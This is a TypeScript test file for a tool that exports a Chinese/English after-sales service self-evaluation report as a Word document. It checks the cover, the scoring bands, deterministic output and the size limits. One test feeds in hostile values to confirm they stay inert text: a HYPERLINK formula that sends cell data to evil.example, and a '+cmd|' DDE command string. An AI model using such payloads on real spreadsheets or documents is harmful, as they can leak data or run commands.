// The 自评报告 (.docx) as a certification body reads it: LibreOffice Writer converts it to PDF, and the PDF's text
// (pdftotext) must show the organisation, the score and the band on the cover, the contents with page numbers and a
// page number in every footer; packs on each side of a band boundary show the right band; hostile text does not
// break the document; the same input gives the same bytes; large packs give a bounded document.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { Lang, PackResult } from '../../src/core/types';
import { EVIDENCE_PER_LEAF, INDEX_ROWS, renderSelfReport } from '../../src/present/formats/selfReport';
import { engineFor, memFs } from '../unit/support/memFs';
import { convert, hasCommand, requireSoffice } from '../support/soffice';
import { DEMO, REPO, checkDisk, runCli } from './formats.test';
import { EDGE_STANDARD, edgePack, OPTS, tenThousandLeafPack } from '../support/edgePack';

const DOCX_OPTS = { baseDir: OPTS.baseDir, toolVersion: OPTS.toolVersion };

/** The PDF's text, one string per page (pdftotext's form feeds), in reading order. */
function pdfPages(pdf: string): string[] {
  return execFileSync('pdftotext', ['-layout', pdf, '-'], { encoding: 'utf8' })
    .split('\f')
    .filter((p, i, all) => i < all.length - 1 || p.trim());
}

/** Every XML part of the document, parsed strictly: a character XML cannot hold makes Word refuse the file. */
function assertWellFormed(docx: Uint8Array): Record<string, string> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports -- sax has no bundled types
  const sax = require('sax') as {
    parser(strict: boolean, opts: object): { onerror: (e: Error) => void; write(s: string): { close(): void } };
  };
  const parts: Record<string, string> = {};
  for (const [name, data] of Object.entries(unzipSync(docx))) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    const xml = strFromU8(data);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(xml, /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/, `${name}: a character XML cannot hold`);
    for (const m of xml.matchAll(/&#(x?)([0-9a-fA-F]+);/g)) {
      const code = parseInt(m[2], m[1] ? 16 : 10);
      assert.ok(code === 9 || code === 10 || code === 13 || (code >= 0x20 && code !== 0xfffe && code !== 0xffff), `${name}: ${m[0]}`);
    }
    const parser = sax.parser(true, {});
    parser.onerror = (e) => {
      throw new Error(`${name}: ${e.message}`);
    };
    parser.write(xml).close();
    parts[name] = xml;
  }
  return parts;
}

/** A one-line pattern that tolerates pdftotext's layout spaces. */
const spaced = (s: string) =>
  s
    .split('')
    .map((c) => c.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
    .join('\\s*');

describe('docx self-evaluation report (自评报告) in LibreOffice Writer', function () {
  this.timeout(600_000);
  let bin: string;
  let dir: string;
  before(function () {
    bin = requireSoffice(this);
    if (!hasCommand('pdftotext')) {
      if (process.env.CI) throw new Error('pdftotext is not installed: scripts/setup-office.sh installs poppler-utils');
      this.skip();
    }
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-docx-'));
  });
  after(() => {
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('shows the organisation, score, stars and band, the contents and a page number in each footer (zh-CN and en)', async () => {
    const files: string[] = [];
    const results = new Map<Lang, PackResult>();
    for (const lang of ['zh-CN', 'en'] as Lang[]) {
      const [result] = await checkDisk(DEMO, lang);
      results.set(lang, result);
      const file = path.join(dir, `demo-${lang}.docx`);
      fs.writeFileSync(file, await renderSelfReport([result], { ...DOCX_OPTS, lang, baseDir: DEMO }));
      files.push(file);
    }
    convert(bin, files, 'pdf', dir);
    for (const lang of ['zh-CN', 'en'] as Lang[]) {
      const zh = lang === 'zh-CN';
      const result = results.get(lang)!;
      const pages = pdfPages(path.join(dir, `demo-${lang}.pdf`));
      const text = pages.join('\n');
      const score = result.score!.score.toFixed(1);
      const band = result.score!.rating.label;
      assert.equal(band, zh ? '三星级' : 'Three-star');
      // Cover: title, organisation, and the score with its stars and band.
      assert.match(pages[0], new RegExp(spaced(zh ? '商品售后服务评价自评报告' : 'After-sales service self-evaluation')));
      assert.match(pages[0], /华澜电器有限公司/);
      assert.match(pages[0], new RegExp(`${zh ? '自评得分：' : 'Self-assessed score: '}${score}\\s+★★★☆☆\\s+${band}`));
      assert.match(pages[0], new RegExp(zh ? '目标等级：四星级' : 'Target: Four-star'));
      // Contents: its heading, and the chapters with the page they start on.
      assert.match(pages[1], new RegExp(`^\\s*${zh ? '目录' : 'Contents'}\\s*$`, 'm'));
      const summaryPage = pages.findIndex((p) => new RegExp(`^${zh ? '评分概要' : 'Score summary'}\\s*$`, 'm').test(p)) + 1;
      assert.ok(summaryPage > 2, 'the summary starts after the contents');
      assert.match(pages[1], new RegExp(`^\\s*${zh ? '评分概要' : 'Score summary'}\\.{5,}`, 'm'));
      assert.match(pages[1], new RegExp(`^\\s*${zh ? '附录 证据索引' : 'Appendix: evidence index'}\\.{5,}`, 'm'));
      // Every page's footer: the page number of the page count.
      pages.forEach((p, i) =>
        assert.match(
          p,
          new RegExp(zh ? `第 ${i + 1} 页，共 ${pages.length} 页` : `Page ${i + 1} of ${pages.length}`),
          `footer of page ${i + 1}`,
        ),
      );
      // Summary and sections.
      assert.match(text, new RegExp(`${zh ? '得分：' : 'Score: '}${score}\\s+★★★☆☆\\s+${band}`));
      assert.match(text, new RegExp(zh ? '暂定分值' : 'Provisional weights'));
      for (const s of result.score!.sections)
        assert.match(text, new RegExp(`^${s.id} .*\\s${s.applicable}\\s+${s.earned}\\s+[\\d.]+%$`, 'm'), `section ${s.id}`);
      // Per indicator: evidence with dates, the exclusion and its reason, a gap with its plan.
      assert.match(text, /2026-06-28/);
      assert.match(text, new RegExp(zh ? '删减理由：' : 'Excluded because: '));
      assert.match(text, new RegExp(zh ? '整改计划：' : 'Rectification plan: '));
      assert.match(text, /SD-1/);
      assert.match(text, new RegExp(zh ? '资格条件：已提供' : 'Prerequisites: '));
      assert.match(text, /rectification-\s*SD-\s*1\.md/);
    }
  });

  it('shows the right band on each side of a band boundary', async () => {
    const cases = [
      { base: '79.95', score: '80.0', band: 'three-star', lang: 'zh-CN' as Lang },
      { base: '79.94', score: '79.9', band: 'qualified', lang: 'en' as Lang },
      { base: '89.95', score: '90.0', band: 'four-star', lang: 'en' as Lang },
      { base: '89.94', score: '89.9', band: 'three-star', lang: 'zh-CN' as Lang },
      { base: '69.94', score: '69.9', band: 'fail', lang: 'zh-CN' as Lang },
    ];
    const files: string[] = [];
    const labels: string[] = [];
    for (const [i, c] of cases.entries()) {
      const result = await edgePack(c, c.lang);
      assert.equal(result.score!.score.toFixed(1), c.score);
      assert.equal(result.score!.rating.id, c.band);
      labels.push(result.score!.rating.label);
      const file = path.join(dir, `edge-${i}.docx`);
      fs.writeFileSync(file, await renderSelfReport([result], { ...DOCX_OPTS, lang: c.lang }));
      files.push(file);
    }
    convert(bin, files, 'pdf', dir);
    for (const [i, c] of cases.entries()) {
      const cover = pdfPages(path.join(dir, `edge-${i}.pdf`))[0];
      const label = c.lang === 'zh-CN' ? '自评得分：' : 'Self-assessed score: ';
      assert.match(cover, new RegExp(`${label}${c.score.replace('.', '\\.')}\\s+[★☆]*\\s*${labels[i]}\\s*$`, 'm'), `${c.base}: ${cover}`);
    }
  });

  it('keeps formula-like, control, lone-surrogate and huge text as text: the document is well formed and converts', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const huge = '很长的标题'.repeat(40_000);
    const fs2 = memFs({
      '/ws/p/evidence-pack.yaml':
        `pack: 1\nstandard: ./std.yaml\norganization: {name: "Hostile \\x01\\x08\\x0B\\uD800 Co <&> ]]>"}\nassessment: {date: 2026-10-15}\n` +
        `special_deductions:\n  - {id: "SD-\\x02", reason: "+cmd|' /C calc'!A0 \\uDC00", rectified: false}\n` +
        `special_bonus: {reason: "@SUM(1,2)", basis: "${huge.slice(0, 5000)}"}\n`,
      '/ws/p/std.yaml': EDGE_STANDARD,
      '/ws/p/a.pdf': '%PDF',
      '/ws/p/e.evidence.yaml': `clauses:
  - {clause: "1.1", status: nonconforming, notes: "${huge}", evidence: [{kind: document, title: ${JSON.stringify(hyperlink)}, file: a.pdf}]}
  - {clause: "1.2", evidence: [{kind: document, title: "bell \\x07 and \\uD83D alone", file: a.pdf}]}
  - {clause: "2.1", status: excluded, justification: "\\x00nul"}
`,
    });
    const result = await engineFor(fs2, { lang: 'en' }).checkPack('/ws/p');
    assert.ok(result.score, 'the pack is scored');
    const docx = await renderSelfReport([result], { ...DOCX_OPTS, lang: 'en' });
    const parts = assertWellFormed(docx);
    assert.ok(parts['word/document.xml'].length < 200_000, 'huge text is cut');
    const file = path.join(dir, 'hostile.docx');
    fs.writeFileSync(file, docx);
    convert(bin, [file], 'pdf', dir);
    const text = pdfPages(path.join(dir, 'hostile.pdf')).join('\n');
    assert.match(text, /=HYPERLINK\("http:\/\/evil\.example\/\?x="&A1,"click"\)/);
    assert.match(text, /Hostile .* Co <&> \]\]>/);
    assert.match(text, /@SUM\(1,2\)/);
    assert.match(text, /很长的标题很长的标题/);
  });
});

describe('docx self-evaluation report (without LibreOffice)', () => {
  it('is byte-identical for the same input, in one process and in two', async function () {
    this.timeout(120_000);
    const result = await edgePack({ base: '79.95', score: '', band: '' }, 'zh-CN');
    const a = await renderSelfReport([result], { ...DOCX_OPTS, lang: 'zh-CN' });
    await new Promise((r) => setTimeout(r, 1100));
    const b = await renderSelfReport([result], { ...DOCX_OPTS, lang: 'zh-CN' });
    assert.ok(Buffer.from(a).equals(Buffer.from(b)), 'the same bytes from a second export in the same process');
    const core = strFromU8(unzipSync(a)['docProps/core.xml']);
    assert.match(core, /<dcterms:created[^>]*>2026-10-15T00:00:00Z</);
    assert.match(core, /<dcterms:modified[^>]*>2026-10-15T00:00:00Z</);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-docx-cli-'));
    try {
      const out = (n: number) => path.join(dir, `r${n}.docx`);
      for (const n of [1, 2]) {
        const run = await runCli(['report', 'examples/demo-pack', '--out', out(n), '--lang', 'en']);
        assert.equal(run.code, 0, run.err);
      }
      assert.ok(fs.readFileSync(out(1)).equals(fs.readFileSync(out(2))), 'two CLI runs write the same bytes');
      // --format docx whatever the extension.
      const run = await runCli(['report', 'examples/demo-pack', '--out', path.join(dir, 'report.bin'), '--format', 'docx', '--lang', 'en']);
      assert.equal(run.code, 0, run.err);
      assert.ok(fs.readFileSync(path.join(dir, 'report.bin')).equals(fs.readFileSync(out(1))));
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('uses real heading styles (navigation pane), a table of contents field and page-number fields in the footer', async () => {
    const [result] = await checkDisk(DEMO, 'en');
    const parts = assertWellFormed(await renderSelfReport([result], { ...DOCX_OPTS, lang: 'en', baseDir: DEMO }));
    const doc = parts['word/document.xml'];
    for (const h of ['Heading1', 'Heading2', 'Heading3']) {
      assert.match(doc, new RegExp(`<w:pStyle w:val="${h}"/>`), h);
      assert.match(
        parts['word/styles.xml'],
        new RegExp(`<w:style w:type="paragraph" w:styleId="${h}">[\\s\\S]*?<w:outlineLvl w:val="${Number(h.slice(-1)) - 1}"/>`),
        `${h} has its outline level`,
      );
    }
    assert.match(doc, /<w:instrText[^>]*>TOC [^<]*\\o &quot;1-2&quot;/);
    const footer = Object.entries(parts).find(([n]) => /^word\/footer\d*\.xml$/.test(n))![1];
    assert.match(footer, /PAGE/);
    assert.match(footer, /NUMPAGES/);
  });

  it('stays bounded on a large pack: a leaf lists its first items and the index its first documents, the rest counted', async function () {
    this.timeout(300_000);
    const items = 4000;
    const fs2 = memFs({
      '/ws/p/evidence-pack.yaml': 'pack: 1\nstandard: ./std.yaml\norganization: {name: Big Co}\nassessment: {date: 2026-10-15}\n',
      '/ws/p/std.yaml': EDGE_STANDARD,
      ...Object.fromEntries(Array.from({ length: items }, (_, i) => [`/ws/p/att/f${String(i).padStart(4, '0')}.pdf`, '%PDF'])),
      '/ws/p/e.evidence.yaml': `clauses:\n  - clause: "1.1"\n    evidence:\n${Array.from({ length: items }, (_, i) => `      - {kind: document, title: "Doc ${i}", file: att/f${String(i).padStart(4, '0')}.pdf}`).join('\n')}\n`,
    });
    const result = await engineFor(fs2, { lang: 'en' }).checkPack('/ws/p');
    const doc = strFromU8(unzipSync(await renderSelfReport([result], { ...DOCX_OPTS, lang: 'en' }))['word/document.xml']);
    const text = doc.replace(/<w:p\b/g, '\n<w:p').replace(/<[^>]+>/g, '');
    assert.equal((text.match(/^Document: Doc \d+ · /gm) ?? []).length, EVIDENCE_PER_LEAF, 'items listed under 1.1');
    assert.match(text, new RegExp(`${items - EVIDENCE_PER_LEAF} more evidence items: see the evidence index`));
    assert.match(text, new RegExp(`By document: ${items} files or sources, ${items} evidence references in all\\.`));
    assert.match(text, new RegExp(`${items - INDEX_ROWS} more rows not listed`));
    assert.ok(doc.length < 1_500_000, `${doc.length} characters of document.xml`);
  });

  it('exports a 10,000-leaf standard: every indicator under its heading, the contents left for Word to number', async function () {
    this.timeout(300_000);
    const result = await tenThousandLeafPack();
    assert.equal(result.standard!.leaves.length, 10_000);
    const doc = strFromU8(unzipSync(await renderSelfReport([result], { ...DOCX_OPTS, lang: 'en' }))['word/document.xml']);
    assert.equal((doc.match(/<w:pStyle w:val="Heading3"\/>/g) ?? []).length, 10_000);
    assert.match(doc, /Word fills in the page numbers when it opens the document/);
  });

  it("says in the user's language when the output folder is missing", async () => {
    const missing = path.join(os.tmpdir(), 'ep-no-such-folder', 'x', 'report.docx');
    let run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'en']);
    assert.equal(run.code, 2);
    assert.match(run.err, /cannot write .*report\.docx: the folder .*ep-no-such-folder\/x does not exist/);
    run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'zh-CN']);
    assert.equal(run.code, 2);
    assert.match(run.err, /无法写入 .*report\.docx：目录 .*不存在/);
    assert.ok(!fs.existsSync(path.dirname(missing)));
  });

  it('keeps the docx library out of the start-up and browser bundles: only dist/deliverables.js has it', function () {
    if (!fs.existsSync(path.join(REPO, 'dist/deliverables.js'))) this.skip(); // `npm test` builds first
    const marker = /docPartGallery/;
    assert.match(fs.readFileSync(path.join(REPO, 'dist/deliverables.js'), 'utf8'), marker);
    for (const f of ['dist/cli-main.js', 'dist/browser.js', 'dist/extension.js', 'dist/webview.js']) {
      assert.doesNotMatch(fs.readFileSync(path.join(REPO, f), 'utf8'), marker, f);
    }
    assert.match(fs.readFileSync(path.join(REPO, 'dist/cli-main.js'), 'utf8'), /require\("\.\/deliverables\.js"\)/);
  });
});
